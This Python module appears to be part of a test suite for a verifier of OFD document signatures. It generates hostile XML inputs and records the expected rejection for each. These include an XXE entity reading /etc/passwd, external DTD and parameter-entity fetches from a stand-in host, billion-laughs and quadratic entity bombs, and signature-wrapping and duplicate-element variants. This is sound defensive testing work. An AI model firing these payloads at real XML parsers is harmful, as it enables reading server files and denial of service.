"""Attacks by XML: in an open OFD.xml by anybody, in a sealed Signature.xml by a careless sealer."""

from collections.abc import Callable, Iterator

from sandbox.ofd_attacks_lists import SIGNATURE
from sandbox.ofd_forging import OfdAttack, attack, changed, described, once
from sandbox.pages import OFD_XML
from sandbox.shapes import NAMESPACE

Change = Callable[[bytes], bytes]
_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
_OTHER = "http://other.example/2016"
_LAUGHS = (
    "<!DOCTYPE o [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)
_DEPTH, _ATTRIBUTES = 100, 200


def _doctype(text: str, use: str = "") -> Change:
    """A document type before the root, and perhaps a use of its entity in the title."""

    def change(content: bytes) -> bytes:
        content = once(_DECLARATION, _DECLARATION + text)(content)
        return once("<ofd:Title>", f"<ofd:Title>{use}")(content) if use else content

    return change


def _encoded(name: str, codec: str) -> Change:
    """The same text in another encoding, honestly declared."""

    def change(content: bytes) -> bytes:
        return content.decode().replace("UTF-8", name, 1).encode(codec)

    return change


def _wrapped(content: bytes) -> bytes:
    """The root inside another root."""
    head, _, body = content.partition(b"?>")
    start = body.index(b"<ofd:")
    return head + b"?>" + b"<Wrapper>" + body[start:] + b"</Wrapper>"


def _twice(name: str) -> Change:
    """An element of the schema a second time, right behind the first."""

    def change(content: bytes) -> bytes:
        start = content.index(f"<ofd:{name}".encode())
        closing = f"</ofd:{name}>".encode()
        end = content.index(closing, start) + len(closing)
        return content[:end] + content[start:end] + content[end:]

    return change


_ROOT = "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>"
_NEST = "<ofd:X>" * _DEPTH + "</ofd:X>" * _DEPTH
_CROWD = "".join(f' a{n}="1"' for n in range(_ATTRIBUTES))
_TITLE = "<ofd:Title>"


def _entry_point() -> Iterator[tuple[str, str, Change]]:
    yield "doctype", "XML-01", _doctype('<!DOCTYPE o SYSTEM "http://other.example/o.dtd">')
    yield "file_entity", "XML-01", _doctype(
        '<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"
    )  # fmt: skip
    yield "parameter_entity", "XML-01", _doctype(
        '<!DOCTYPE o [<!ENTITY % x SYSTEM "http://other.example/x">%x;]>'
    )  # fmt: skip
    yield "billion_laughs", "XML-02", _doctype(_LAUGHS, "&a9;")
    yield "quadratic", "XML-02", _doctype(
        f"<!DOCTYPE o [<!ENTITY a '{'a' * 1000}'>]>", "&a;" * 1000
    )  # fmt: skip
    yield "deep", "XML-03", once(_TITLE, _NEST + _TITLE)
    yield "many_attributes", "XML-04", once(_TITLE, f"<ofd:Title{_CROWD}>")
    yield "utf16", "XML-05", _encoded("UTF-16", "utf-16")
    yield "utf7", "XML-05", _encoded("UTF-7", "utf-7")
    yield "gbk", "XML-05", _encoded("GBK", "gbk")
    yield "declared_latin1", "XML-05", once('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    yield "xml_1_1", "XML-05", once('version="1.0"', 'version="1.1"')
    yield "zero_byte", "XML-05", once(_TITLE, f"{_TITLE}\x00")
    yield "other_namespace", "XML-06", once(NAMESPACE, _OTHER)
    yield "no_namespace", "XML-06", lambda c: c.replace(b"ofd:", b"")
    yield "foreign_twin", "XML-06", once(
        _ROOT, f'<x:DocRoot xmlns:x="{_OTHER}">Doc_1/Document.xml</x:DocRoot>{_ROOT}'
    )  # fmt: skip
    yield "two_roots_named", "XML-06", _twice("DocRoot")
    yield "text_split", "XML-06", once("Doc_0/Document.xml", "Doc_0/<!-- -->Document.xml")
    yield "element_in_text", "XML-06", once("Doc_0/Document.xml", "Doc_0/<b/>Document.xml")
    yield "undeclared_prefix", "XML-06", once(_TITLE, f"<y:Z/>{_TITLE}")
    yield "attribute_twice", "XML-06", once('Version="1.1"', 'Version="1.1" Version="1.2"')
    yield "instruction", "XML-06", once(_TITLE, f"<?run x?>{_TITLE}")
    yield "unclosed", "XML-06", once("</ofd:OFD>", "")
    yield "after_root", "XML-06", once("</ofd:OFD>", "</ofd:OFD><x/>")
    yield "wrapped", "XML-07", _wrapped


def _description() -> Iterator[tuple[str, str, Change]]:
    yield "signed_info_twice", "XML-06", _twice("SignedInfo")
    yield "references_twice", "XML-06", _twice("References")
    yield "signed_value_twice", "XML-07", _twice("SignedValue")
    yield "signature_wrapped", "XML-07", _wrapped
    yield "check_value_twice", "XML-06", _twice("CheckValue")
    yield "reference_split", "XML-06", once("<ofd:CheckValue>", "<ofd:CheckValue><!-- -->")
    yield "signature_doctype", "XML-01", _doctype("<!DOCTYPE s>")


def _canonical(content: bytes) -> bytes:
    """Empty elements written out, as canonical XML has them."""
    at = content.index(b"<ofd:StampAnnot")
    end = content.index(b"/>", at)
    return content[:end] + b"></ofd:StampAnnot>" + content[end + 2 :]


_REWRITES: tuple[tuple[str, Change], ...] = (
    ("crlf", lambda c: c.replace(b"\n", b"\r\n")),
    ("bom", lambda c: b"\xef\xbb\xbf" + c),
    ("newline", lambda c: c + b"\n"),
    ("quotes", once('version="1.0"', "version='1.0'")),
    ("comment", once("<ofd:SignedInfo>", "<!-- --><ofd:SignedInfo>")),
    ("canonical", _canonical),
)
"""What programs do to XML without changing what it says (SM-07)."""


def attacks() -> Iterator[OfdAttack]:
    """All of this module."""
    for name, threats, change in _entry_point():
        # Well-formed, and more than a verifier need read: doubt, not a fault of the file.
        reason = "beyond_limits" if name in ("deep", "many_attributes") else "malformed"
        yield attack(f"xml_{name}", reason, threats, changed(OFD_XML, change), shape="bank")
    for name, threats, change in _description():
        yield attack(f"xml_{name}", "malformed", threats, described(change))
    for name, change in _REWRITES:
        forge = changed(SIGNATURE, change)
        yield attack(f"rewritten_{name}", "data_hash_differs", "SM-07 OFD-12", forge)
